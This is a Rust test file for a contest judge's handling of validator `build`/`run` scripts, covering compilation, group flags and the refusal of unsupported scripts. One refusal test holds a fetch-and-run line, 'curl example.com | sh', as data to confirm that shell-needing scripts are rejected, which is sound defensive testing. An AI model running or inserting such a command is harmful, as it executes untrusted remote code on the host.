//! Validators that are folders with the format's `build` and `run` scripts: read, never run,
//! and mapped onto what the sandbox compiles; input validators get their group's flags.

use std::collections::BTreeMap;

use joust_common::{Language, domain::Verdict, execution::Checker};
use joust_problems::{parse, validator_scripts::interpret, verify};

use crate::{executor, fixture_package, fixture_with};

fn folder(files: &[(&str, &str)]) -> BTreeMap<String, Vec<u8>> {
    files
        .iter()
        .map(|(name, text)| ((*name).to_owned(), text.as_bytes().to_vec()))
        .collect()
}

#[tokio::test]
async fn a_validator_built_by_its_scripts_judges_the_answers() {
    let verified = verify(&fixture_package("scripted"), &executor())
        .await
        .expect("the scripted package verifies");
    let Checker::Validator(validator) = &verified.checker else {
        panic!("a custom validator: {:?}", verified.checker);
    };
    assert_eq!(validator.language, Language::Cpp);
    assert!(validator.source.contains("lower_words(std::cin)"));
    // The header comes along; the scripts do not.
    let beside: Vec<&str> = validator.files.iter().map(|f| f.path.as_str()).collect();
    assert_eq!(beside, ["words.h"]);
    let verdicts: Vec<_> = verified
        .runs
        .iter()
        .map(|r| (r.path.as_str(), r.verdict))
        .collect();
    assert!(verdicts.contains(&("submissions/accepted/shout.py", Verdict::AC)));
    assert!(verdicts.contains(&("submissions/wrong_answer/even.py", Verdict::WA)));
}

#[tokio::test]
async fn an_input_validator_gets_only_its_groups_flags() {
    // Seven words: within the default of the samples, above the secret group's max_words=5.
    let seven = "7\na\nb\nc\nd\ne\nf\ng\n";
    let files = fixture_with(
        "scripted",
        &[
            ("data/sample/2.in", Some(seven)),
            ("data/sample/2.ans", Some("A\nC\nE\nG\n")),
            ("data/secret/3.in", Some(seven)),
            ("data/secret/3.ans", Some("A\nC\nE\nG\n")),
        ],
    );
    let report = verify(&parse(&files).unwrap(), &executor())
        .await
        .expect_err("the secret test breaks its group's limit");
    assert!(
        report.mentions("data/secret/3.in: rejected by input_format_validators/words"),
        "{report}"
    );
    assert!(!report.mentions("data/sample/2.in"), "{report}");
    assert_eq!(report.problems.len(), 1, "{report}");
}

#[test]
fn scripts_are_read_as_one_compiler_call_and_one_program_call() {
    let built = interpret(&folder(&[
        (
            "build",
            "#!/bin/bash\nset -euo pipefail\nexec clang -O2 -o v ./v.c -lm\n",
        ),
        ("run", "./v \"$@\"\n"),
        ("v.c", "int main(void) { return 42; }"),
    ]));
    let built = built.expect("scripts").expect("understood");
    assert_eq!((built.language, built.main.as_str()), (Language::C, "v.c"));

    let python = interpret(&folder(&[
        ("run", "#!/bin/sh\nexec python3 check.py \"$@\"\n"),
        ("check.py", "import sys\nsys.exit(42)\n"),
    ]));
    let python = python.expect("scripts").expect("understood");
    assert_eq!(
        (python.language, python.main.as_str()),
        (Language::Python, "check.py")
    );

    assert!(interpret(&folder(&[("v.cpp", "int main() {}")])).is_none());
}

#[test]
fn scripts_beyond_a_compiler_and_a_program_call_are_refused_with_the_reason() {
    let refused = |files: &[(&str, &str)]| {
        interpret(&folder(files))
            .expect("scripts")
            .expect_err("refused")
    };
    let needs_shell = refused(&[
        ("build", "g++ -o v v.cpp && curl example.com | sh\n"),
        ("run", "./v \"$@\"\n"),
        ("v.cpp", ""),
    ]);
    assert!(needs_shell.contains("needs a shell"), "{needs_shell}");
    let two_sources = refused(&[
        ("build", "g++ -o v a.cpp b.cpp\n"),
        ("run", "./v \"$@\"\n"),
        ("a.cpp", ""),
        ("b.cpp", ""),
    ]);
    assert!(two_sources.contains("2 source files"), "{two_sources}");
    let other_program = refused(&[
        ("build", "g++ -o v v.cpp\n"),
        ("run", "./other \"$@\"\n"),
        ("v.cpp", ""),
    ]);
    assert!(other_program.contains("not the program"), "{other_program}");
    let fixed_arguments = refused(&[
        ("build", "g++ -o v v.cpp\n"),
        ("run", "./v --strict \"$@\"\n"),
        ("v.cpp", ""),
    ]);
    assert!(
        fixed_arguments.contains("not a supported"),
        "{fixed_arguments}"
    );
    let java = refused(&[("build", "javac V.java\n"), ("run", "java V \"$@\"\n")]);
    assert!(java.contains("javac is not supported"), "{java}");
    let no_run = refused(&[("build", "g++ -o v v.cpp\n"), ("v.cpp", "")]);
    assert!(no_run.contains("needs a `run` script"), "{no_run}");
}
